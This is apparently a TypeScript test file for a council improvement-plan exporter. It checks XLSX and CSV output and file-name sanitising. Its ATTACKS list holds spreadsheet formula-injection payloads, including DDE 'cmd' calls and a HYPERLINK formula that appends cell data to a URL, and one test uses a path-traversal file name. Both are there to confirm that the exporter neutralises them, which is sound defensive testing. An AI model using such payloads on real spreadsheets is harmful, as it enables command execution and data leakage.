import { describe, expect, test } from '@jest/globals'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import readExcel, { type CellValue, readSheet } from 'read-excel-file/node'
import { writeCsv } from '../../server/paper/sheets/sheet.csv.ts'
import type { Sheet, SheetColumn, SheetValue, Workbook } from '../../server/paper/sheet.ts'
import { writeXlsx } from '../../server/paper/sheets/workbook.xlsx.ts'
import { fileNameOf } from '../../server/web/send-file.ts'
import { zipParts } from '../support/files/zip-parts.ts'

const ATTACKS = [
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("https://example.org?"&A1,"Open")',
  '+1+1',
  '-2+3+cmd|"/c calc"!A1',
  '@SUM(1,2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '"=1+1',
  ';=1+1',
]

const column = (kind: SheetColumn['kind'], heading: string = kind): SheetColumn => ({
  heading,
  kind,
  width: 20,
})

const workbook = (columns: SheetColumn[], rows: SheetValue[][], name = 'Plan'): Workbook => ({
  title: 'Improvement plan 2026-27',
  about: [{ term: 'Board', text: 'Northmoor Youth Justice Partnership Board' }],
  sheets: [{ name, columns, rows }],
})

const everyKind = workbook(
  [column('text'), column('day'), column('moment'), column('number'), column('percent')],
  [
    ['Train the case managers', '2026-03-07', '2026-07-01T09:42:00.000Z', -3, 75],
    ['Old', '1899-12-31', '2026-01-01T09:42:00.000Z', 0.5, 0],
    [null, null, null, null, null],
    ['Not a day', 'Autumn 2026', null, 1_000_000, 100],
  ],
)

const read = async ({ sheets, ...rest }: Workbook): Promise<(CellValue | null)[][]> =>
  readSheet(await writeXlsx({ sheets, ...rest }), sheets[0].name, { trim: false })

describe('an Excel file', () => {
  test('has days, moments, numbers and shares as what they are, and the clock as in London', async () => {
    const [, ...rows] = await read(everyKind)
    expect(rows[0]).toEqual([
      'Train the case managers',
      new Date('2026-03-07T00:00:00Z'),
      expect.any(Date),
      -3,
      0.75,
    ])
    // Summer time: 9:42 in UTC is 10:42 in London.
    expect(toMinute(rows[0]?.[2])).toBe('2026-07-01T10:42')
    expect(toMinute(rows[1]?.[2])).toBe('2026-01-01T09:42')
    // Excel knows no day before March 1900, and no such day as an autumn: they stay the texts that they are.
    expect(rows[1]?.[1]).toBe('1899-12-31')
    expect(rows.at(-1)).toEqual(['Not a day', 'Autumn 2026', null, 1_000_000, 1])
  })

  test('begins with a sheet that says what it is', async () => {
    const sheets = await readExcel(await writeXlsx(everyKind))
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['About', 'Plan'])
    expect(sheets[0]?.data).toEqual([
      ['Improvement plan 2026-27', null],
      ['Board', 'Northmoor Youth Justice Partnership Board'],
    ])
  })

  test('keeps its header row in sight and has filters on every column, where Excel looks for them', async () => {
    const parts = zipParts(await writeXlsx(everyKind))
    const sheet = parts.get('xl/worksheets/sheet2.xml') ?? ''
    expect(sheet).toMatch(/<pane ySplit="1"[^>]*state="frozen"/)
    // After the data, before the margins: another order is a file that Excel offers to repair.
    expect(sheet).toMatch(/<\/sheetData><autoFilter ref="A1:E5"\/><pageMargins/)
    const book = parts.get('xl/workbook.xml') ?? ''
    expect(book.match(/<definedNames/g)).toHaveLength(1)
    expect(book).toContain(
      '<definedName name="_xlnm._FilterDatabase" localSheetId="1" hidden="1">\'Plan\'!$A$1:$E$5</definedName>',
    )
  })

  test('has filters on a table without rows too', async () => {
    const empty = workbook([column('text'), column('number')], [], "The board's")
    const parts = zipParts(await writeXlsx(empty))
    expect(parts.get('xl/worksheets/sheet2.xml')).toContain('<autoFilter ref="A1:B1"/>')
    expect(parts.get('xl/workbook.xml')).toContain("'The board''s'!$A$1:$B$1")
    expect(await read(empty)).toEqual([['text', 'number']])
  })

  test('has rows as high as their words need, up to the 409 points that Excel allows', async () => {
    const tall = workbook(
      [column('text')],
      [['word '.repeat(12)], ['word '.repeat(5000)], ['one\ntwo\nthree']],
    )
    const sheet = zipParts(await writeXlsx(tall)).get('xl/worksheets/sheet2.xml') ?? ''
    const heights = [...sheet.matchAll(/<row r="\d+" ht="([\d.]+)" customHeight="1"/g)].map(([, height]) =>
      Number(height),
    )
    expect(heights).toEqual([14.5, 3 * 14.5, 409, 3 * 14.5])
  })

  test('has no formula, whatever a text begins with', async () => {
    const attacked = workbook(
      [column('text', ATTACKS[0]), column('day'), column('number')],
      ATTACKS.map((attack) => [attack, attack, attack]),
    )
    attacked.title = '=1+1'
    attacked.about = ATTACKS.map((text) => ({ term: text, text }))
    const parts = zipParts(await writeXlsx(attacked))
    const sheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet'))
    expect(sheets).toHaveLength(2)
    for (const [, xml] of sheets) {
      expect(xml).not.toMatch(/<f[ >/]/)
      // Every cell is a shared string.
      for (const [cell] of xml.matchAll(/<c [^>]*><v>/g)) expect(cell).toContain(' t="s"')
    }
    const [heading, ...rows] = await read(attacked)
    expect(heading?.[0]).toBe(ATTACKS[0])
    expect(rows.map(([text]) => text)).toEqual(ATTACKS.map((text) => text.replace('\r', '\n')))
  })

  test('formats a text that begins like a formula as text, so that it stays one when somebody edits it', async () => {
    const parts = zipParts(await writeXlsx(workbook([column('text')], [['=1+1'], ['Plain']])))
    const [, asText] = /<numFmt numFmtId="(\d+)" formatCode="@"/.exec(parts.get('xl/styles.xml') ?? '') ?? []
    const [, formats = ''] = (parts.get('xl/styles.xml') ?? '').split('<cellXfs')
    const formatIds = [...formats.matchAll(/<xf (?:numFmtId="(\d+)")?/g)].map(([, id]) => id)
    const formatOf = (name: string) => {
      const [, style] =
        new RegExp(`<c r="${name}" s="(\\d+)"`).exec(parts.get('xl/worksheets/sheet2.xml') ?? '') ?? []
      return formatIds[Number(style)]
    }
    expect(asText).toBeDefined()
    expect(formatOf('A2')).toBe(asText)
    expect(formatOf('A3')).not.toBe(asText)
  })

  test('loses nothing of a text that is longer than a cell of Excel holds', async () => {
    const long = `${'ŵ'.repeat(32_766)}😀${'y'.repeat(67_000)}`
    const given = workbook(
      [column('number'), column('text'), column('text')],
      [
        [7, long, 'Short'],
        [8, 'Next', 'x'],
      ],
    )
    const [, ...rows] = await read(given)
    expect(rows.map(([number]) => number)).toEqual([7, 7, 7, 7, 8])
    expect(rows.map(([, text]) => String(text).length > 32_767)).not.toContain(true)
    expect(
      rows
        .slice(0, 4)
        .map(([, text]) => text)
        .join(''),
    ).toBe(long)
    // Cut between two letters, not within the emoji.
    expect(rows.every(([, text]) => String(text).isWellFormed())).toBe(true)
    expect(rows.map(([, , short]) => short)).toEqual(['Short', null, null, null, 'x'])
    const [about] = await readExcel(await writeXlsx(given))
    expect(about?.data.at(-1)?.[0]).toBe('Long texts')
  })

  test('keeps every text as it was typed, but for what XML refuses', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 30 }),
        async (texts) => {
          const given = workbook([column('number'), ...texts.map(() => column('text'))], [[1, ...texts]])
          const [, row] = await read(given)
          expect(row?.slice(1).map((text) => text ?? '')).toEqual(texts.map(kept))
        },
      ),
      { numRuns: 8, examples: [[['constructor', '__proto__', 'toString', '_x0041_', '_X000d_ ']]] },
    )
  })
})

describe('a CSV file', () => {
  const sheetOf = ({ sheets }: Workbook): Sheet => sheets[0]
  const rowsOf = (csv: string): string[][] => parse(csv, { bom: true })

  test('has UTF-8 with its mark, lines that end in CRLF, and days as ISO 8601', () => {
    const csv = writeCsv(sheetOf(everyKind))
    expect(csv).toMatch(/^\uFEFF"text","day","moment","number","percent"\r\n/)
    expect(csv).toContain('"Train the case managers","2026-03-07","2026-07-01 10:42:00",-3,75\r\n')
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(rowsOf(csv)).toHaveLength(5)
  })

  test('has an apostrophe before what would run as a formula, and none before a number', () => {
    const csv = writeCsv(
      sheetOf(
        workbook(
          [column('text'), column('number')],
          ATTACKS.map((text) => [text, -2]),
        ),
      ),
    )
    const [, ...rows] = rowsOf(csv)
    expect(rows).toHaveLength(ATTACKS.length)
    for (const [index, [text, number]] of rows.entries()) {
      expect(text).not.toMatch(/^[=+\-@\t\r＝]/)
      expect(text?.replace(/^'/, '')).toBe(ATTACKS[index])
      expect(number).toBe('-2')
    }
    // Where Excel parts columns at semicolons, one within a text begins no cell.
    expect(csv).toContain('\n";=1+1",')
  })

  test('keeps every text, whatever quotes, commas and line ends are in it', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 5 }), (texts) => {
        const [, row] = rowsOf(
          writeCsv(
            sheetOf(
              workbook(
                texts.map(() => column('text')),
                [texts],
              ),
            ),
          ),
        )
        expect(
          row?.map((text, index) => (/^[=+\-@\t\r＝＋－＠]/.test(texts[index] ?? '') ? text.slice(1) : text)),
        ).toEqual(texts)
      }),
      { numRuns: 200 },
    )
  })
})

describe('the name of a file', () => {
  test('is of small letters, digits and hyphens, whatever it is made of', () => {
    expect(fileNameOf(['Northmoor Council', 'plan', '2026-03-07'], 'pdf')).toBe(
      'northmoor-council-plan-2026-03-07.pdf',
    )
    expect(fileNameOf(['Cyngor Sir Ynys Môn', 'plan', 'ŵ/../..\\x"\r\n'], 'csv')).toBe(
      'cyngor-sir-ynys-mon-plan-w-x.csv',
    )
    expect(fileNameOf(['King’s Lynn', '', '2026'], 'xlsx')).toBe('kings-lynn-2026.xlsx')
    expect(fileNameOf(['x'.repeat(300), 'plan'], 'docx')).toBe(`${'x'.repeat(50)}-plan.docx`)
  })
})

function toMinute(value: CellValue | null | undefined): string {
  return value instanceof Date
    ? new Date(Math.round(value.getTime() / 60_000) * 60_000).toISOString().slice(0, 16)
    : ''
}

/** What XML can hold of a text. */
function kept(text: string): string {
  return (
    text
      .toWellFormed()
      .replace(/\r\n?/g, '\n')
      .replace(/(?![\t\n])\p{Cc}|\p{Noncharacter_Code_Point}|\uFFFD/gu, '')
      // Only these take a space, which the library needs to tell them from what it wrote before.
      .replace(/^(constructor|__proto__|toString)$/, '$1 ')
  )
}
